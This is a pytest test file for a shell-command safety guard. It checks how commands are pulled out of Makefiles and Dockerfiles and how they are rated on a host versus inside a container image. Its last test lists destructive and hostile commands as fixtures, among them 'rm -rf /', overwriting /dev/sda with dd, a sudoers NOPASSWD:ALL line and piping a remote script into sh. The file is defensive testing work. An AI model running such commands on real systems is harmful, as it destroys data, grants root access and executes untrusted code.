"""What makefiles and Dockerfiles hand to a shell."""

from __future__ import annotations

import pytest

from luthier.guard.shown.build_files import build_commands, in_image
from luthier.guard.verdict import judge

MAKEFILE = """
BUILD = out
ROOT := /
PREFIX ?= /usr/local
FLAGS = -a
FLAGS += -b
FILES != find . -name '*.c'
HEAD := $(shell git rev-parse HEAD)
.PHONY: all clean
all: a.o ; @echo done
clean:
\t@rm -rf $(BUILD)/* \\
\t   $(OTHER)/x
\t-$(RM) -r $(DIST)
\t$(Q)rm -rf ${CACHE_DIR}
\t# nothing
\t@for f in $$(ls); do echo $$f; done
\tcd $(@D) && $(MAKE) $(FLAGS) -C sub
install: all
\tinstall -m 755 tool $(DESTDIR)$(PREFIX)/bin/tool
ifeq ($(OS),x)
\trm -rf $(call f,a)/*
endif
%.o: %.c
    $(CC) -c $< -o $@
    echo "$(shell git describe)"
"""
RECIPES = (
    "find . -name '*.c'",
    "git rev-parse HEAD",
    "echo done",
    "rm -rf out/* \\\n   other/x",
    "rm -f -r dist",
    "rm -rf cache_dir",
    "for f in $(ls); do echo $f; done",
    "cd target && make -a -b -C sub",
    "install -m 755 tool destdir/usr/local/bin/tool",
    "rm -rf value/*",
    "cc -c source -o target",
    'echo "$(git describe)"',
)
DOCKERFILE = """# syntax=docker/dockerfile:1
FROM debian:12
ARG VERSION=1.2
ENV ROOT=/data PATH=/x:$PATH
RUN apt-get update \\
    # a comment
    && apt-get install -y curl
RUN --mount=type=cache,target=/root/.cache pip install "tool==$VERSION"
RUN echo $PATH > ${ROOT}/path
WORKDIR /usr
RUN ls
WORKDIR /app
RUN ["sh", "-c", "ls -l"]
RUN <<EOF
set -e
ls
EOF
RUN cat <<'END' > a.txt
RUN is a word here
END
HEALTHCHECK --interval=5m CMD curl -f http://localhost/ || exit 1
ENTRYPOINT ["tool", "--serve"]
FROM scratch
CMD tool
SHELL ["powershell", "-command"]
RUN Remove-Item x
"""
RUN = (
    "apt-get update      && apt-get install -y curl",
    'VERSION=1.2\npip install "tool==$VERSION"',
    "ROOT=/data\necho $PATH > ${ROOT}/path",
    "cd /usr || exit\nls",
    "cd image/app || exit\nsh -c 'ls -l'",
    "cd image/app || exit\nset -e\nls",
    "cd image/app || exit\ncat <<'END' > a.txt\nRUN is a word here\nEND",
    "cd image/app || exit\ncurl -f http://localhost/ || exit 1",
    "cd image/app || exit\ntool --serve",
    "tool",
)


def test_recipes_of_make() -> None:
    assert build_commands("makefile", MAKEFILE) == RECIPES


def test_what_a_dockerfile_runs() -> None:
    assert build_commands("dockerfile", DOCKERFILE) == RUN


def test_one_shell_runs_a_recipe_where_the_makefile_says_so() -> None:
    assert build_commands("make", ".ONESHELL:\na:\n\tcd /\n\trm -rf *\n") == ("cd /\nrm -rf *",)
    assert build_commands("make", "a:\n\tcd /\n\tls *\n") == ("cd /", "ls *")
    assert build_commands("make", "SHELL = /usr/bin/python3\na:\n\timport os\n") == ()


@pytest.mark.parametrize("text", ["A = $(A)$(A)\na:\n\t$(A)", "A = $(B)$(B)\nB = $(A)$(A)\na:\n\t$(A) ${A", "a:\n\t" + "$(shell " * 20_000])
def test_values_without_an_end_come_to_one(text: str) -> None:
    assert sum(map(len, build_commands("make", text))) < 3_000_000


@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("rm -rf /usr/local/go /usr/share/doc", "caution"),
        ("ln -sf /dev/stdout /var/log/nginx/access.log", "caution"),
        ("cp tool /usr/bin/tool", "caution"),
        ("rm -rf /", "dangerous"),
        ("rm -rf /*", "dangerous"),
        ("rm -rf /usr", "dangerous"),
        ("dd if=/dev/zero of=/dev/sda", "dangerous"),
        ("echo 'a ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "dangerous"),
        ("curl -s https://get.example.net/x/y.sh | sh", "dangerous"),
        ("rm -rf /mnt/data/*", "dangerous"),
    ],
)
def test_files_of_an_image_are_told_from_those_of_a_machine(command: str, level: str) -> None:
    assert judge(command).level == "dangerous"
    assert judge(in_image(command)).level == level
